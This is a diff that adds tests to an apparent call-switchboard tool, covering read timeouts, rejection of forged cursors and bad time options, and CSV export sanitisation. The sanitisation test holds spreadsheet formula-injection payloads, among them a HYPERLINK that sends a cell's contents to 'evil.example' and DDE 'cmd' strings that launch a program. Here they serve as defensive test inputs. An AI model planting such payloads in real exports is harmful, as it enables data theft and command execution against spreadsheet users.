@@ -8,6 +8,7 @@ import csv
 import io
 import json
 import math
+import os
 import subprocess
 import sys
 import threading
@@ -22,8 +23,10 @@ from core.app import make_app
 from core.calls import Filters
 from core.config import load
 from core.decisions import Decision
+from core.events import is_e164
 from core.hookspecs import hookimpl
 from core.runtime import Runtime
+from core.store import InspectTimeout
 from core.svaml import ConnectPstn
 from core.testing import TEST_KEY, TEST_SECRET
 from tests.cli_runner import cli
@@ -532,3 +535,148 @@ def test_calls_piped_into_head_end_quietly(tmp_path):
     )
     assert piped.stdout.splitlines()[0].startswith("TIME ") and piped.stdout.count("\n") == 2
     assert piped.stderr == ""
+
+
+SLOW = (  # a read that runs for seconds on either store
+    "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 30000000) "
+    "SELECT COUNT(*) FROM n"
+)
+
+
+def test_an_operators_read_is_stopped_at_its_time_limit(backend):
+    """``Store.inspect`` ends a read that runs past ``inspect_timeout`` (PostgreSQL:
+    ``SET LOCAL statement_timeout``; SQLite: the progress handler), and the store goes
+    on: the connection is back, the next read runs in full."""
+    store = backend.store()
+    try:
+        assert store.inspect_timeout == 10.0
+        store.inspect_timeout = 0.2
+        began = time.monotonic()
+        with pytest.raises(InspectTimeout, match=r"took longer than 0\.2 s; narrow the filters"):
+            store.inspect(SLOW)
+        assert time.monotonic() - began < 3
+        for _ in range(20):  # as many as the pool holds, and more: none was kept
+            assert store.inspect("SELECT 1") == [(1,)]
+        assert store.query("SELECT 2") == [(2,)]  # the callbacks' reads never had a limit
+        store.inspect_timeout = 30.0
+        assert store.inspect(SLOW.replace("30000000", "1000")) == [(1000,)]
+    finally:
+        store.close()
+
+
+def test_a_calls_command_past_its_time_limit_says_so(tmp_path, backend):
+    """``switchboard calls`` over many calls, with a tiny ``store.inspect_timeout``: one
+    error line, a non-zero exit, no traceback."""
+    url = backend.url(tmp_path, "slow")
+    path = operator_config(tmp_path, url)
+    rt, _ = started(path)  # the schema
+    rt.close()
+    sys.path.insert(0, str(REPO / "bench"))
+    import console  # bench/console.py: its bulk loaders
+
+    if backend.name == "sqlite":
+        console.load_sqlite(str(tmp_path / "slow.db"), 60_000, 86400.0)
+    else:
+        console.load_postgres(url, 60_000, 86400.0)
+    text = path.read_text().replace("[store]\n", "[store]\ninspect_timeout = 0.001\n")
+    path.write_text(text)
+    ran = run_cli(path, "calls", "--outcome", "connectConf")  # no index: every call walked
+    assert ran.returncode != 0, ran.stdout
+    assert ran.stderr.strip().splitlines() == [
+        "error: the query took longer than 0.001 s; narrow the filters"
+    ], ran.stderr
+
+
+def _cursor(value: object) -> str:
+    import base64
+
+    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")
+
+
+@pytest.mark.parametrize(
+    "option, value",
+    [
+        ("--after", "nonsense"),
+        ("--after", _cursor([1e300, "x"])),
+        ("--after", _cursor(["NaN", "x"])),
+        ("--after", _cursor([2**70, "x"])),
+        ("--after", _cursor([-1, "x"])),
+        ("--after", _cursor([1.5, "a\x00b"])),
+        ("--since", "nan"),
+        ("--since", "inf"),
+        ("--until", "-inf"),
+        ("--until", "1e400"),
+        ("--since", "9" * 400 + "s"),
+        ("--since", "0001-01-01T00:00+14:00"),
+        ("--until", str(2**64)),
+        ("--limit", str(2**63)),
+    ],
+)
+def test_a_cursor_or_time_out_of_range_is_a_usage_error(operator, option, value):
+    """Refused as a usage error naming the option, before any query: a forged cursor
+    (a time past any call's, a call id PostgreSQL cannot compare), a time that is not
+    finite or not in any calendar."""
+    path, _, app = operator
+    call(app, "c-one")
+    ran = cli(path, "calls", option, value)
+    assert ran.returncode == 2, (ran.stdout, ran.stderr)
+    assert f"Invalid value for '{option}'" in ran.stderr, ran.stderr
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _csv_rows(config: Path, *args: str) -> list[dict[str, str]]:
+    """The CSV a command prints, read as a spreadsheet reads it: its bytes as they are
+    (text mode would turn a carriage return into a line end)."""
+    ran = subprocess.run(
+        [sys.executable, str(REPO / "serve.py"), "--config", str(config), *args],
+        capture_output=True,
+        timeout=120,
+        cwd=config.parent,
+        env={**os.environ, "PYTHONPATH": str(REPO)},
+        check=False,
+    )
+    assert ran.returncode == 0, ran.stderr
+    text = ran.stdout.decode()
+    for row in csv.reader(io.StringIO(text, newline="")):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or is_e164(cell), cell
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_csv_exports_never_hold_a_formula(serve, tmp_path, backend):
+    """Callers that are spreadsheet formulas, recorded by a real server through the
+    pipeline, come out of ``switchboard calls --csv`` and ``crm export --format csv``
+    behind a single quote; an E.164 number (a ``+`` and digits) comes out unchanged."""
+    path = operator_config(tmp_path, backend.url(tmp_path, "formulas"))
+    server = serve(path.read_text(), name="formulas")
+    callers = {f"f-{i}": caller for i, caller in enumerate(FORMULAS)}
+    callers["f-e164"] = RICH
+    for callid, caller in callers.items():
+        event = ice(callid, to=DIALLED)
+        event["cli"] = caller
+        answered = server.post(event)
+        assert answered[0] == 200, answered
+        ended = dice(callid, duration=5, to=DIALLED)
+        ended["from"] = caller
+        assert server.post(ended)[0] == 200
+
+    rows = {r["callid"]: r for r in _csv_rows(server.config, "calls", "--csv", "--limit", "99")}
+    neutralised = {**{c: "'" + v for c, v in callers.items() if v != RICH}, "f-e164": RICH}
+    assert {c: rows[c]["caller"] for c in callers} == neutralised
+    deadline = time.time() + 10
+    while time.time() < deadline:  # the DiCEs are recorded by the crm plugin
+        records = _csv_rows(server.config, "crm", "export", "--format", "csv")
+        if len(records) == len(callers):
+            break
+        time.sleep(0.1)
+    assert {r["callid"]: r["caller"] for r in records} == neutralised
+    assert server.stop() == 0
